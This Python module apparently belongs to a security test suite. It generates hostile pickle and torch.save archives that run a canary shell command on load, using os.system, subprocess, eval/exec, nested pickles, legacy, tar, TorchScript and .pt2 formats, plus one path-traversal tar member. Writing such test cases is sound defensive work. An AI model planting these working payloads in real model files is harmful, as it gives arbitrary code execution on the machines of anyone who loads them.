"""Pickles and the archives of torch.save around them, written opcode by opcode: what runs, grows, or never
ends when it is read.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np

from evaluation.hostile.case import CHECKPOINT, Canary, hostile

BOTH = (*CHECKPOINT, "prepare")
MAGIC = 0x1950A86A20F9469CFC6C  # torch/serialization.py


def call(module: str, name: str, argument: str, protocol: int = 2) -> bytes:
    """A pickle whose load calls *module.name(argument)*."""
    start = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    if protocol >= 4:
        return start + short(module) + short(name) + b"\x93" + short(argument) + b"\x85R."
    if protocol == 0:
        return f"c{module}\n{name}\n(S{argument!r}\ntR.".encode()
    return start + f"c{module}\n{name}\n".encode() + long(argument) + b"\x85R."


def short(value: str) -> bytes:
    data = value.encode()
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def long(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def archive(path: Path, members: dict[str, bytes], root: str = "archive", compress: bool = False) -> Path:
    """A zip as torch.save writes it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as made:
        for name, data in (
            {"data.pkl": b"\x80\x02}."} | members | {"version": b"3\n", "byteorder": b"little"}
        ).items():
            made.writestr(f"{root}/{name}", data)
    return path


def tensor(
    key: str = "0",
    count: int = 16,
    size: tuple[int, ...] = (16,),
    offset: int = 0,
    storage: str = "FloatStorage",
    stride: tuple[int, ...] | None = None,
) -> bytes:
    """The opcodes of a tensor over the storage *key* (without protocol and stop)."""
    steps = stride or tuple(int(np.prod(size[i + 1 :], dtype=object)) for i in range(len(size)))
    persistent = (
        b"("
        + long("storage")
        + f"ctorch\n{storage}\n".encode()
        + long(key)
        + long("cpu")
        + integer(count)
        + b"tQ"
    )
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + persistent
        + integer(offset)
        + tup(size)
        + tup(steps)
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )


def integer(value: int) -> bytes:
    if 0 <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def tup(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(integer, values)) + b"t"


def state(*items: tuple[str, bytes]) -> bytes:
    return b"\x80\x02}(" + b"".join(long(name) + value for name, value in items) + b"u."


WEIGHT = np.ones(16, "<f4").tobytes()
CALLS = {
    "posix-system": ("posix", "system"),
    "os-system": ("os", "system"),
    "subprocess-popen": ("subprocess", "getoutput"),
    "builtins-eval": ("builtins", "eval"),
    "builtins-exec": ("builtins", "exec"),
    "pty-spawn": ("pty", "spawn"),
    "runpy": ("runpy", "run_path"),
    "torch-load": ("torch", "load"),
    "torch-ops-library": ("torch.ops", "load_library"),
    "timeit": ("timeit", "timeit"),
    "pdb": ("pdb", "run"),
    "code-interact": ("torch._inductor.codecache", "AsyncCompile"),
}


def command(canary: Canary, name: str) -> str:
    if name in ("builtins-eval", "builtins-exec", "timeit", "pdb"):
        return f"__import__('os').system({canary.shell!r})"
    return canary.shell


for _name, (_module, _function) in CALLS.items():

    @hostile(
        "torch-module",
        "reduce",
        _name,
        f"a pickle that calls {_module}.{_function}",
        commands=BOTH,
        control="torch"
        if _name in ("posix-system", "os-system", "builtins-eval", "builtins-exec", "timeit")
        else "",
    )
    def _(canary: Canary, name: str = _name, module: str = _module, function: str = _function) -> Path:
        return archive(canary.model / "model.pt", {"data.pkl": call(module, function, command(canary, name))})


for _protocol in range(6):

    @hostile(
        "torch-module",
        "protocol",
        f"plain-{_protocol}",
        f"os.system in a plain pickle of protocol {_protocol}",
        commands=BOTH,
        control="pickle",
    )
    def _(canary: Canary, protocol: int = _protocol) -> Path:
        path = canary.model / "model.pkl"
        path.write_bytes(call("os", "system", canary.shell, protocol))
        return path


@hostile(
    "torch-weights",
    "reduce",
    "state-dict",
    "a state dict with a right tensor and a call",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    code = f"cos\nsystem\n(S{canary.shell!r}\ntR".encode()
    return archive(
        canary.model / "model.pt", {"data.pkl": state(("w", tensor()), ("b", code)), "data/0": WEIGHT}
    )


@hostile(
    "torch-weights",
    "reduce",
    "nested",
    "a pickle in a pickle, by pickle.loads",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    inner = call("os", "system", canary.shell)
    code = b"c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR"
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})


@hostile(
    "torch-weights",
    "reduce",
    "torch-load-bytes",
    "torch's own loader of bytes with a pickle in them",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as made:
        for name, data in {"data.pkl": call("os", "system", canary.shell), "version": b"3\n"}.items():
            made.writestr(f"a/{name}", data)
    code = (
        b"ctorch.storage\n_load_from_bytes\n(B"
        + struct.pack("<I", len(inner.getvalue()))
        + inner.getvalue()
        + b"tR"
    )
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})


@hostile(
    "torch-weights",
    "reduce",
    "build",
    "a BUILD that sets an attribute of a class to os.system",
    commands=BOTH,
)
def _(canary: Canary) -> Path:
    code = (
        b"ccollections\nOrderedDict\n)R}("
        + long("__setstate__")
        + b"cos\nsystem\nub"
        + long(canary.shell)
        + b"b"
    )
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})


@hostile("torch-weights", "reduce", "inst", "the INST opcode", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    return archive(canary.model / "model.pt", {"data.pkl": f"(S{canary.shell!r}\nios\nsystem\n.".encode()})


@hostile("torch-weights", "reduce", "obj", "the OBJ opcode", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    return archive(
        canary.model / "model.pt",
        {
            "data.pkl": b"(csubprocess\nPopen\n"
            + b"("
            + long("/bin/sh")
            + long("-c")
            + long(canary.shell)
            + b"lo."
        },
    )


@hostile("torch-weights", "reduce", "ext", "the EXT opcodes", commands=BOTH)
def _(canary: Canary) -> Path:
    return archive(
        canary.model / "model.pt", {"data.pkl": b"\x80\x02\x82\x01\x83\x01\x00\x84\x01\x00\x00\x00."}
    )


@hostile(
    "torch-weights", "reduce", "dotted", "a STACK_GLOBAL with a dotted name", commands=BOTH, control="torch"
)
def _(canary: Canary) -> Path:
    code = (
        b"\x80\x04"
        + short("torch.serialization")
        + short("os.system")
        + b"\x93"
        + short(canary.shell)
        + b"\x85R."
    )
    return archive(canary.model / "model.pt", {"data.pkl": code})


@hostile(
    "torch-weights",
    "reduce",
    "rebuild-from-type",
    "torch._tensor._rebuild_from_type_v2 with a function of the file's",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    code = (
        b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n("
        + long(canary.shell)
        + b"t}tR"
    )
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})


@hostile(
    "torch-weights",
    "reduce",
    "legacy",
    "a call in the system information of a legacy file",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    code = f"cos\nsystem\n(S{canary.shell!r}\ntR.".encode()
    path.write_bytes(
        pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + code + pickle.dumps({}, 2) + pickle.dumps([], 2)
    )
    return path


@hostile(
    "torch-weights",
    "reduce",
    "legacy-model",
    "a call in the object of a legacy file",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    path.write_bytes(
        pickle.dumps(MAGIC, 2)
        + pickle.dumps(1001, 2)
        + system
        + call("os", "system", canary.shell)
        + pickle.dumps([], 2)
    )
    return path


@hostile("torch-weights", "reduce", "tar", "a call in the pickle of a tar archive", commands=BOTH)
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    with tarfile.open(path, "w") as made:
        for name in ("pickle", "storages", "tensors", relative_written(canary)):
            info = tarfile.TarInfo(name)
            data = call("os", "system", canary.shell)
            info.size = len(data)
            made.addfile(info, io.BytesIO(data))
    return path


def relative_written(canary: Canary) -> str:
    return f"../fired/{Path(canary.written).name}"


@hostile("torchscript", "reduce", "constants", "a call in constants.pkl of a TorchScript archive", control="")
def _(canary: Canary) -> Path:
    code = {
        "constants.pkl": call("os", "system", canary.shell),
        "code/__torch__.py": b"",
        "data.pkl": call("os", "system", canary.shell),
    }
    return archive(canary.model / "model.pt", code, "model")


@hostile("torchscript", "reduce", "mobile-bytecode", "a call in bytecode.pkl of an archive for phones")
def _(canary: Canary) -> Path:
    code = {
        "bytecode.pkl": call("os", "system", canary.shell),
        "constants.pkl": call("os", "system", canary.shell),
        "data.pkl": call("os", "system", canary.shell),
    }
    return archive(canary.model / "model.ptl", code, "model")


@hostile(
    "exported-program",
    "reduce",
    "sample-inputs",
    "a call in the pickled example inputs and constants of a .pt2",
)
def _(canary: Canary) -> Path:
    members = {
        "archive_format": b"pt2",
        "archive_version": b"0",
        "serialized_exported_program.json": b"{}",
        "models/model.json": b"{}",
        "data/sample_inputs/model.pt": call("os", "system", canary.shell),
        "data/weights/model.pt": call("os", "system", canary.shell),
        "data/constants/model.pt": call("os", "system", canary.shell),
        "serialized_state_dict.pt": call("os", "system", canary.shell),
        "serialized_constants.pt": call("os", "system", canary.shell),
        "serialized_example_inputs.pt": call("os", "system", canary.shell),
    }
    return archive(canary.model / "model.pt2", members, "model")
